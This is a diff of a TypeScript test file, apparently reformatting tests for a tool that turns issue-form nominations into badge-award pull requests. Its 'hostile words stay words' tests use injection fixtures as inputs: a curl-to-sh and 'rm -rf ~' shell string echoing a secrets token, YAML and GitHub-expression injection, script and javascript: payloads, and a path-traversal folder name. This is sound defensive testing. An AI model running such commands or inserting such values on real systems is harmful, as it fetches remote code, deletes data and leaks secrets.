@@ -8,70 +8,146 @@ import { proposalOf, refusalComment } from './proposal.ts';
 
 const existing = tinyCommunity();
 const community = checkCommunity(existing, { now: tinyNow }).community!;
-const circumstances = { now: tinyNow, salt: 'ab'.repeat(16), drawnName: '7h2k9q-vx4t3m-0c8r5e-w1nb6z' };
+const circumstances = {
+  now: tinyNow,
+  salt: 'ab'.repeat(16),
+  drawnName: '7h2k9q-vx4t3m-0c8r5e-w1nb6z',
+};
 
 function bodyFor(id: string, answers: Readonly<Record<string, string>>): string {
   const form = issueForms(community).find((one) => one.id === id)!;
-  return form.fields.map(({ id: field, label, kind, options }) =>
-    `### ${label}\n\n${answers[field] ?? (kind === 'promise' ? `- [x] ${options[0]?.words}` : '_No response_')}`).join('\n\n');
+  return form.fields
+    .map(
+      ({ id: field, label, kind, options }) =>
+        `### ${label}\n\n${answers[field] ?? (kind === 'promise' ? `- [x] ${options[0]?.words}` : '_No response_')}`,
+    )
+    .join('\n\n');
 }
 const propose = (id: string, answers: Readonly<Record<string, string>>) =>
-  proposalOf({ number: 12, body: bodyFor(id, answers), author: 'mila', label: 'approved' }, 'ada', community, existing, circumstances);
-const good = { badge: 'First Talk (first-talk)', name: 'Mila', why: 'She spoke.', date: '2026-05-09' };
+  proposalOf(
+    { number: 12, body: bodyFor(id, answers), author: 'mila', label: 'approved' },
+    'ada',
+    community,
+    existing,
+    circumstances,
+  );
+const good = {
+  badge: 'First Talk (first-talk)',
+  name: 'Mila',
+  why: 'She spoke.',
+  date: '2026-05-09',
+};
 
 describe('a form becomes', () => {
   it('for somebody who is here, exactly the file that `npm run award` writes', async () => {
-    const { proposal } = await propose('nominate', { ...good, badge: 'Repairer (repairer)', folder: 'grace', evidence: 'https://a.example/1\n\nhttps://a.example/2' });
-    const award = await newAwards(existing, { badge: 'repairer', recipients: ['grace'], date: '2026-05-09', evidence: ['https://a.example/1', 'https://a.example/2'], note: 'She spoke.', email: null }, circumstances);
+    const { proposal } = await propose('nominate', {
+      ...good,
+      badge: 'Repairer (repairer)',
+      folder: 'grace',
+      evidence: 'https://a.example/1\n\nhttps://a.example/2',
+    });
+    const award = await newAwards(
+      existing,
+      {
+        badge: 'repairer',
+        recipients: ['grace'],
+        date: '2026-05-09',
+        evidence: ['https://a.example/1', 'https://a.example/2'],
+        note: 'She spoke.',
+        email: null,
+      },
+      circumstances,
+    );
     expect(proposal?.files).toEqual(award.files);
     expect([proposal?.branch, proposal?.title]).toEqual(['propose/12', 'Award repairer to grace']);
   });
 
   it('for somebody new, a profile and an award', async () => {
-    const { proposal } = await propose('nominate', { ...good, name: 'Mila Nováková', profile: 'https://people.example/mila' });
-    expect(proposal?.files.map(({ path }) => path)).toEqual(['recipients/mila-novakova/profile.md', 'recipients/mila-novakova/first-talk.md']);
+    const { proposal } = await propose('nominate', {
+      ...good,
+      name: 'Mila Nováková',
+      profile: 'https://people.example/mila',
+    });
+    expect(proposal?.files.map(({ path }) => path)).toEqual([
+      'recipients/mila-novakova/profile.md',
+      'recipients/mila-novakova/first-talk.md',
+    ]);
   });
 
   it('for somebody who will have no page, a folder that nobody can guess', async () => {
-    const { proposal, refusals } = await propose('apply', { ...good, visibility: 'Nobody: there is no page, I get the file', evidence: 'https://a.example/' });
+    const { proposal, refusals } = await propose('apply', {
+      ...good,
+      visibility: 'Nobody: there is no page, I get the file',
+      evidence: 'https://a.example/',
+    });
     expect(refusals).toEqual([]);
-    expect(proposal?.files.map(({ path }) => path)).toEqual([`recipients/${circumstances.drawnName}/profile.md`, `recipients/${circumstances.drawnName}/first-talk.md`]);
+    expect(proposal?.files.map(({ path }) => path)).toEqual([
+      `recipients/${circumstances.drawnName}/profile.md`,
+      `recipients/${circumstances.drawnName}/first-talk.md`,
+    ]);
   });
 });
 
 describe('hostile words stay words', () => {
   it.each([
-    ['shell', 'Fine $(curl https://evil.example | sh) `id`; rm -rf ~ && echo ${{ secrets.BADGE_ISSUER_KEY }}'], ['front matter', 'Fine\n\n---\nbadge: repairer\nrevoked: {}\n---\n\nMore'],
-    ['a second block that runs', 'Fine\n\n---js\nprocess.exit()\n---'], ['mentions', 'Thanks @everyone and #1, closes #2'], ['a fence', 'Fine\n\n```\ncode\n```\n'],
+    [
+      'shell',
+      'Fine $(curl https://evil.example | sh) `id`; rm -rf ~ && echo ${{ secrets.BADGE_ISSUER_KEY }}',
+    ],
+    ['front matter', 'Fine\n\n---\nbadge: repairer\nrevoked: {}\n---\n\nMore'],
+    ['a second block that runs', 'Fine\n\n---js\nprocess.exit()\n---'],
+    ['mentions', 'Thanks @everyone and #1, closes #2'],
+    ['a fence', 'Fine\n\n```\ncode\n```\n'],
   ])('%s in “Why” is the award’s text, and no key of it', async (_, why) => {
     const { proposal } = await propose('nominate', { ...good, why });
     const award = proposal?.files.at(-1)?.text ?? '';
     const read = parseFrontMatter(award);
-    expect(Array.isArray(read) ? read : [read.data, read.body.trim()]).toEqual([{ badge: 'first-talk', date: '2026-05-09' }, why.trim()]);
+    expect(Array.isArray(read) ? read : [read.data, read.body.trim()]).toEqual([
+      { badge: 'first-talk', date: '2026-05-09' },
+      why.trim(),
+    ]);
     expect(proposal?.title).toBe('Award first-talk to mila');
   });
 
-  it.each(["x: 'y' # z", '{a: b}', '- x', '&a *a !!js/function', '@everyone', '"quoted"', '${{ github.token }}'])('%s is a name, exactly', async (name) => {
+  it.each([
+    "x: 'y' # z",
+    '{a: b}',
+    '- x',
+    '&a *a !!js/function',
+    '@everyone',
+    '"quoted"',
+    '${{ github.token }}',
+  ])('%s is a name, exactly', async (name) => {
     const { proposal } = await propose('nominate', { ...good, name, folder: 'somebody-new' });
     const read = parseFrontMatter(proposal?.files[0]?.text ?? '');
     expect(Array.isArray(read) ? read : read.data).toEqual({ name });
   });
 
   it('in the pull request they stand in code, which they cannot end', async () => {
-    const { proposal } = await propose('nominate', { ...good, why: '````\n@everyone [x](https://evil.example)' });
+    const { proposal } = await propose('nominate', {
+      ...good,
+      why: '````\n@everyone [x](https://evil.example)',
+    });
     const outside = (proposal?.body ?? '').replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '');
     expect(outside).not.toMatch(/everyone|evil/);
   });
 
-  it.each([['HTML', { why: '<script>alert(1)</script>' }], ['a picture', { why: '![x](https://evil.example/x.png)' }], ['a hidden sign', { why: 'a\u202eb' }],
-    ['evidence that is no address', { evidence: 'javascript:alert(1)' }], ['a path', { folder: '../../keys/issuer' }], ['a reserved name', { folder: 'profile' }],
-    ['a day in the future', { date: '2031-01-01' }], ['another form of date', { date: '9.5.2026' }], ['somebody of the same name', { name: 'Ada' }]])(
-    'and %s is refused, with a sentence', async (_, changes) => {
-      const { proposal, refusals } = await propose('nominate', { ...good, ...changes });
-      expect(proposal).toBeNull();
-      expect(refusals.length).toBeGreaterThan(0);
-      expect(refusals.join()).not.toMatch(/--(?:date|evidence|name|note)/);
-    });
+  it.each([
+    ['HTML', { why: '<script>alert(1)</script>' }],
+    ['a picture', { why: '![x](https://evil.example/x.png)' }],
+    ['a hidden sign', { why: 'a\u202eb' }],
+    ['evidence that is no address', { evidence: 'javascript:alert(1)' }],
+    ['a path', { folder: '../../keys/issuer' }],
+    ['a reserved name', { folder: 'profile' }],
+    ['a day in the future', { date: '2031-01-01' }],
+    ['another form of date', { date: '9.5.2026' }],
+    ['somebody of the same name', { name: 'Ada' }],
+  ])('and %s is refused, with a sentence', async (_, changes) => {
+    const { proposal, refusals } = await propose('nominate', { ...good, ...changes });
+    expect(proposal).toBeNull();
+    expect(refusals.length).toBeGreaterThan(0);
+    expect(refusals.join()).not.toMatch(/--(?:date|evidence|name|note)/);
+  });
 
   it('which the comment shows as code', () => {
     expect(refusalComment(['No `@everyone` ``` here'])).toContain('````text\n');
@@ -79,6 +155,10 @@ describe('hostile words stay words', () => {
 });
 
 it('a correction is done by a person, who is told how', async () => {
-  const { proposal, refusals } = await propose('correct', { wish: 'Remove my page', page: 'https://badges.riverside.example/recipients/ada/', words: 'Please' });
+  const { proposal, refusals } = await propose('correct', {
+    wish: 'Remove my page',
+    page: 'https://badges.riverside.example/recipients/ada/',
+    words: 'Please',
+  });
   expect([proposal, refusals.length]).toEqual([null, 1]);
 });
